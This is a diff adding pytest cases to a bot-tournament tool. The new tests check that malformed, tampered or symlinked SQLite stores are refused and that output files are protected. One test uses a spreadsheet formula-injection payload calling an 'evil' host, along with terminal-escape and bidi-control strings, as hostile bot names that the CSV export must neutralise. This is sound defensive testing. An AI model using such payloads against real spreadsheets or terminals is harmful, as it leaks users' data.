@@ -14,6 +14,7 @@ import resource
 import shlex
 import signal
 import sqlite3
+import stat
 import subprocess
 import sys
 from collections.abc import Callable
@@ -54,7 +55,7 @@ class Commands:
         self.store = str(folder / "night.sqlite")
         self._capsys = capsys
 
-    def workers(self, jobs: int, *, pin: bool) -> Any:
+    def workers(self, jobs: int, *, pin: bool = False) -> Any:
         """In place of processes."""
         executor = MadeUp(self.result, self.most)
         self.played = executor.played
@@ -235,6 +236,74 @@ def test_a_wrong_command_leaves_no_store(commands: Commands) -> None:
     ):
         assert says in commands.refused(*words)
         assert not Path(commands.store).exists()
+
+
+def a_device(path: Path) -> None:
+    try:
+        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # as /dev/null
+    except PermissionError:
+        pytest.skip("only root makes devices")
+
+
+@pytest.mark.parametrize("bots", [BOTS, ["minimal"]])
+@pytest.mark.parametrize(
+    ("make", "says"),
+    [
+        (a_device, "it is no regular file"),
+        (os.mkfifo, "it is no regular file"),
+        (Path.mkdir, "it is no regular file"),
+        (Path.touch, "is no store of a tournament"),
+        (lambda path: path.write_text("dear diary\n" * 100), "is not a database"),
+        (lambda path: path.symlink_to("nothing"), "No such file"),
+        (lambda path: path.symlink_to("/dev/null"), "it is no regular file"),
+    ],
+)
+def test_what_is_no_store_is_left_alone(
+    commands: Commands, tmp_path: Path, make: Callable[[Path], Any], says: str, bots: list[str]
+) -> None:
+    path = tmp_path / "thing"
+    make(path)
+    before = path.lstat()
+    commands.store = "thing"
+    assert says in commands.refused(*bots, "--deals", "1")
+    after = path.lstat()
+    assert (after.st_ino, after.st_size, after.st_mtime_ns) == (
+        before.st_ino,
+        before.st_size,
+        before.st_mtime_ns,
+    )
+    assert [*tmp_path.iterdir()] == [path]
+
+
+@pytest.mark.parametrize("name", ["", ":memory:", "file:x", "a\0b"])
+def test_what_is_no_name_of_a_store(commands: Commands, tmp_path: Path, name: str) -> None:
+    commands.store = name
+    assert "is not the name of a file" in commands.refused(*BOTS, "--deals", "1")
+    assert [*tmp_path.iterdir()] == []
+
+
+def test_a_link_to_a_store_is_one(commands: Commands, tmp_path: Path) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "5")
+    (tmp_path / "link").symlink_to(commands.store)
+    commands.store = "link"
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "5")
+    assert commands.played == []
+    assert {path.name for path in tmp_path.iterdir()} == {"link", "night.sqlite"}
+
+
+def test_a_link_in_the_folder_of_records_is_not_followed(
+    commands: Commands, tmp_path: Path
+) -> None:
+    commands.result = lambda plan: row(plan, record=b"{}\n")
+    diary = tmp_path / "diary"
+    diary.write_text("dear diary")
+    (tmp_path / "r").mkdir()
+    for name in ("000000.record.jsonl.zst.part", "000001.record.jsonl.zst"):
+        (tmp_path / "r" / name).symlink_to(diary)
+    commands.tournament(*BOTS, "--deals", "1", "--records", "r")
+    assert diary.read_text() == "dear diary"
+    assert not any(path.is_symlink() for path in (tmp_path / "r").iterdir())
+    assert len([*(tmp_path / "r").iterdir()]) == 6
 
 
 def test_a_full_disk_for_records_ends_it_with_one_line(commands: Commands, tmp_path: Path) -> None:
@@ -526,6 +595,10 @@ def test_the_anchor(commands: Commands) -> None:
         (["standings", "night.sqlite", "--bot", "x"], "--bot x: there are: minimal"),
         (["standings", "night.sqlite", "--watch", "--format", "csv"], "--watch shows text"),
         (["verify", "--store", "night.sqlite", "--log", "x"], "--store takes neither"),
+        (
+            ["verify", "--store", "night.sqlite", "--records-of", "none"],
+            "--records-of none: there is no such folder",
+        ),
     ],
 )
 def test_wrong_usage(commands: Commands, words: list[str], says: str) -> None:
@@ -555,6 +628,80 @@ def test_a_damaged_store_is_one_line(commands: Commands, seed: int) -> None:
                 assert name in one_line(err)
 
 
+STAGES = "UPDATE about SET value = replace(value, {}, {}) WHERE key = 'stages'"
+SEAT = "UPDATE seats SET {} WHERE match = 3 AND seat = 1"
+MATCH = "UPDATE matches SET {} WHERE match = 3"
+
+
+@pytest.mark.parametrize(
+    ("edit", "says"),
+    [
+        ("UPDATE about SET value = '[]' WHERE key = 'stages'", "about, stages: there are none"),
+        ("UPDATE about SET value = x'00' WHERE key = 'stages'", "about, stages: Expected `str`"),
+        ("DELETE FROM about WHERE key = 'stages'", "about, stages: Expected"),
+        (STAGES.format("'dominion'", "'goBd'"), "about, stages: no game 'goBd'"),
+        (STAGES.format("'\"players\":2'", "'\"players\":0'"), "stages: not all that"),
+        (STAGES.format("'\"players\":2'", "'\"players\":200000000'"), "has 2 to 4"),
+        (STAGES.format("'\"deals\":2'", "'\"deals\":-2'"), "about, stages: Expected `int` >= 1"),
+        (STAGES.format("'\"max_turns\":500'", "'\"max_turns\":[]'"), "about, stages: "),
+        ("DELETE FROM bots", "table bots, bot 0: it is not that of the stages"),
+        ("UPDATE bots SET name = 'x' || char(27) WHERE bot = 1", "table bots, bot 1: "),
+        ("DELETE FROM matches WHERE match = 3", "match 3: it has no row in matches"),
+        (MATCH.format("match = -5"), "matches, match -5: match: Expected `int` >= 0"),
+        (MATCH.format("match = 1000000000000000"), "match 1000000000000000: it is not of deal"),
+        (MATCH.format("match = 13, deal = 6"), "match 13: it has no row in seats"),
+        (MATCH.format("deal = 999999999999"), "match 3: deal: Expected `int` <= 4294967295"),
+        (MATCH.format("seconds = 9e999"), "match 3: seconds: Expected `float` <= "),
+        (MATCH.format("void = 'yes'"), "match 3: void: Expected `int`, got `str`"),
+        ("DELETE FROM seats", "match 0: it has no row in seats"),
+        (
+            "DELETE FROM seats WHERE match = 3 AND seat = 1",
+            "match 3: its rows are not seats",
+        ),
+        (SEAT.format("rank = 'x'"), "seats, match 3, seat 1: rank: Expected `int`, got `str`"),
+        (SEAT.format("rank = 3"), "match 3: its rows are not seats 0 to 1"),
+        (SEAT.format("bot = 99"), "match 3: its rows are not seats 0 to 1"),
+        (SEAT.format("bot = (SELECT bot FROM seats WHERE match = 3)"), "match 3: its rows are not"),
+        (SEAT.format("bot = (SELECT 3 - sum(bot) FROM seats WHERE match = 3)"), "has other bots"),
+        (SEAT.format("score = 1 << 60"), "match 3, seat 1: score: Expected `int` <= "),
+        (
+            SEAT.format("faults = '{\"x\":[]}'"),
+            "seat 1: faults: Expected `int`, got `array`",
+        ),
+        (SEAT.format("faults = x'7b7d'"), "match 3, seat 1: faults: Expected `str`, got `bytes`"),
+        (
+            SEAT.format("reply_histogram = '{\"99999\":5}'"),
+            "reply_histogram: Expected `int` <=",
+        ),
+        (SEAT.format('statistics = \'{"bought":{"gold":[1]}}\''), "3, seat 1: statistics: "),
+        ("DROP TABLE seats", "its tables are not those of a store"),
+        (
+            "CREATE TRIGGER t AFTER INSERT ON seats BEGIN DELETE FROM bots; END",
+            "its tables are not",
+        ),
+    ],
+)
+def test_what_cannot_be_in_a_store_is_named(commands: Commands, edit: str, says: str) -> None:
+    """Before anything of it is shown; a run adds nothing to it either."""
+    words = [*BOTS, "--deals", "2", "--seed", "1"]
+    commands.tournament(*words)
+    with sqlite3.connect(commands.store) as connection:
+        connection.execute(edit)
+    connection.close()
+    before = Path(commands.store).read_bytes()
+    kept_by_the_game = "statistics" in edit
+    for command in (["standings"], ["standings", "--bot", "minimal"], ["export"], ["verify", "-q"]):
+        if kept_by_the_game and command[0] != "standings":
+            continue
+        store = ["--store"] * (command[0] == "verify") + [commands.store]
+        assert commands.run(*command, *store, code=2) == ""
+        line = one_line(commands.err)
+        assert f"{commands.store} is damaged: table " in line or "its tables" in line
+        assert says in line
+    assert says in commands.refused(*words)
+    assert kept_by_the_game or Path(commands.store).read_bytes() == before
+
+
 # --- export ---------------------------------------------------------------------------------------
 
 
@@ -570,7 +717,7 @@ def test_export_as_csv(commands: Commands) -> None:
     commands.result = exported
     # What a shell would take for more or less than one word is quoted.
     names = {"plain": "plain"}
-    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\tb")}
+    names |= {name: shlex.quote(name) for name in ("two words", "it's", "a\\b")}
     tables = "".join(f"[[bot]]\nname = {json.dumps(name)}\ncommand = 'minimal'\n" for name in names)
     Path("night.toml").write_text(tables)
     commands.tournament("--config", "night.toml", "--deals", "1")
@@ -592,6 +739,53 @@ def test_export_as_csv(commands: Commands) -> None:
                 assert found[name] == str(getattr(line, name))
     used = {name for found in rows for name in names.values() if name in found["players"]}
     assert used == set(names.values())
+
+
+FORMULA = '=HYPERLINK("http://evil/?"&A1)'
+
+
+def test_what_a_stranger_calls_itself_neither_runs_nor_drives_a_terminal(
+    commands: Commands,
+) -> None:
+    driving = "\x1b[2J\x9b\u202e\u2066\n"
+    commands.result = lambda plan: row(
+        plan,
+        names=[FORMULA, f"@{driving}"],
+        ranks=[1, 2],
+        reason=f"-{driving}",
+        digest=f"+{driving}",
+        faults=[{}, {f"<b>{driving}": 1}],
+        left=[None, left(f"{driving}=1")],
+    )
+    names = ["=x", "-y"]
+    tables = "".join(f"[[bot]]\nname = '{name}'\ncommand = 'minimal'\n" for name in names)
+    Path("night.toml").write_text(tables)
+    seen = [commands.tournament("--config", "night.toml", "--deals", "1")]
+    seen.append(commands.run("standings", commands.store, "--bot=-y"))
+    seen.append(commands.run("standings", commands.store, "--format", "html"))
+    seen.append(commands.run("standings", commands.store, "--format", "csv"))
+    cells = [(bot["name"], bot["calls_itself"]) for bot in csv.DictReader(seen[-1].splitlines())]
+    assert [name for name, _ in sorted(cells)] == ["'-y", "'=x"]
+    assert all(own[:2] in ("'=", "'@") for _, own in cells)
+    seen.append(commands.run("export", commands.store))
+    for match in csv.DictReader(seen[-1].splitlines()):
+        assert match["players"] in ("'=x -y", "'-y =x")
+        assert match["reason"] == r"'-\x1b[2J\x9b\u202e\u2066\n"
+        assert match["digest"][:2] == "'+"
+        assert match["ranks"] == "1 2"
+    for text in seen:
+        assert all(line.isprintable() for line in text.split("\n"))
+
+
+def test_a_report_is_not_written_over_what_it_is_of(commands: Commands) -> None:
+    commands.tournament(*BOTS, "--deals", "1", "--seed", "1")
+    before = Path(commands.store).read_bytes()
+    Path("link").symlink_to(commands.store)
+    for command in (["standings", commands.store], ["export", commands.store]):
+        commands.run(*command, "--output", "link", code=2)
+        assert f"link and {commands.store} are the same file" in one_line(commands.err)
+    commands.run("verify", "--store", commands.store, "--output", commands.store, code=2)
+    assert Path(commands.store).read_bytes() == before
 
 
 @pytest.mark.parametrize(
